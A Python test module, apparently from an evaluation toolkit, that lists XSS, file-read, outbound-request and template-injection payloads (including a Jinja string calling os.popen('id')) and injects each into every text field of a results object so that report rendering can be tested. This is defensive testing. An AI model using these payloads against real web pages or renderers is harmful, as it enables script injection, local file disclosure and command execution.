"""What a hostile model, suite or card could write to make a report read a file or call out."""

from __future__ import annotations

from evalkit import records as r

HOST = "http://127.0.0.1:{port}"
FILE = "file://{secret}"
PAYLOADS = (
    f"<script>fetch('{HOST}/1')</script>",
    f"<img src='{FILE}'>",
    f"<img src='{HOST}/2' srcset='{HOST}/3 2x'>",
    f"<link rel='attachment' href='{FILE}'>",
    f"<a rel='attachment' href='{FILE}'>attached</a>",
    f"<link rel='stylesheet' href='{HOST}/4.css'>",
    f"<style>body {{ background: url('{FILE}') }}</style>",
    f"<style>@import url('{HOST}/5.css');</style>",
    f"<style>@font-face {{ font-family: x; src: url('{FILE}') }} * {{ font-family: x }}</style>",
    f"<style>p::before {{ content: url('{HOST}/6.png') }}</style>",
    f"</style><style>li {{ list-style-image: url('{HOST}/7.png') }}</style>",
    f"<p style=\"background-image: url('{FILE}')\">x</p>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{FILE}' width='9' height='9'/></svg>",
    f"<svg><use href='{FILE}#a'/><style>@import '{HOST}/8.css';</style></svg>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{FILE}'/></svg>\">",
    f"<object data='{FILE}' type='text/plain'></object>",
    f"<embed src='{HOST}/9'>",
    f"<iframe src='{FILE}'></iframe>",
    f"<base href='{HOST}/'><img src='10.png'>",
    f"<meta http-equiv='refresh' content='0;url={HOST}/11'>",
    f"<input type='image' src='{HOST}/12'>",
    f"<video poster='{HOST}/13' src='{HOST}/14'></video>",
    f"<a href='{FILE}'>a</a><a href='javascript:alert(1)'>b</a>",
    "]]><!--></title></textarea></style><h1 onclick=alert(1)>x</h1>",
    "</script><script>hacked = 1; alert(1)</script>",
    '"><script>hacked = 1; alert(1)</script>',
    "'><img src=x onerror='hacked = 1; alert(1)'>",
    '" autofocus tabindex=1 onfocus="hacked = 1; alert(1)" x="',
    "<svg onload='hacked = 1; alert(1)'><title><script>hacked = 1</script></title></svg>",
    "</title></svg><details open ontoggle='hacked = 1; alert(1)'>x</details>",
    "<math><mtext><style><img src=x onerror='hacked = 1; alert(1)'></style></mtext></math>",
    "<script type='module'>import 'http://127.0.0.1:{port}/15'</script>",
    "${hacked = 1} `${alert(1)}` \u003cscript\u003ehacked = 1\u003c/script\u003e",
    "&lt;script&gt;hacked = 1&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
)


def infected(results: r.Results, payload: str) -> r.Results:
    """`results` with the payload wherever a model, a suite or a card can put text."""
    samples = tuple(
        s.model_copy(
            update={
                "prompt": payload,
                "response": payload,
                "safe": payload,
                "fail": payload,
                "reason": payload,
                "attribution": _infected(s.attribution, payload) if s.attribution else None,
            }
        )
        for s in results.samples
    )
    features = tuple(
        f.model_copy(
            update={
                "promoted_tokens": (payload,),
                "suppressed_tokens": (payload,),
                "label": payload,
                "label_source": payload,
                "density_source": payload,
                "top_contexts": (
                    r.FeatureContext(source=payload, tokens=(payload, "b"), activations=(2.0, 1.0)),
                ),
            }
        )
        for f in results.features
    )
    claims = tuple(c.model_copy(update={"sentence": payload, "evidence": (payload,)}) for c in results.claims)
    circuits = tuple(
        c.model_copy(
            update={
                "nodes": tuple(
                    n.model_copy(update={"role": payload, "label": payload, "label_source": payload})
                    for n in c.nodes
                ),
                "notes": (payload,),
            }
        )
        for c in results.circuits
    )
    saes = tuple(
        s.model_copy(
            update={"ref": payload, "card": s.card and s.card.model_copy(update={"notes": (payload,)})}
        )
        for s in results.saes
    )
    return results.model_copy(
        update={
            "samples": samples,
            "circuits": circuits,
            "saes": saes,
            "features": features,
            "claims": claims,
            "notes": (payload,),
            "suite": results.suite.model_copy(update={"title": payload}),
            "model": results.model.model_copy(
                update={"ref": payload, "source": payload, "licence": payload, "upstream": payload}
            ),
        }
    )


def _infected(attribution: r.Attribution, payload: str) -> r.Attribution:
    nodes = tuple(n.model_copy(update={"token": payload, "role": payload}) for n in attribution.nodes)
    reason = payload if attribution.no_attribution else None
    return attribution.model_copy(update={"nodes": nodes, "no_attribution": reason})
